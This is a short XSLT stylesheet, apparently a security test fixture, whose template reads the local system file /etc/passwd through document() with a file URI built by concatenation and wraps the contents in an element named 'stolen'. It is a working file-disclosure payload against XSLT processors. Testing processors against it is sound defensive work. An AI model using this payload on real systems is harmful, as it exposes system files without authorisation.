<?xml version="1.0" encoding="UTF-8"?>
<!-- A computed file URI. -->
<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:template match="/"><stolen><xsl:copy-of select="document(concat('file://', '/etc/passwd'))"/></stolen></xsl:template>
</xsl:stylesheet>
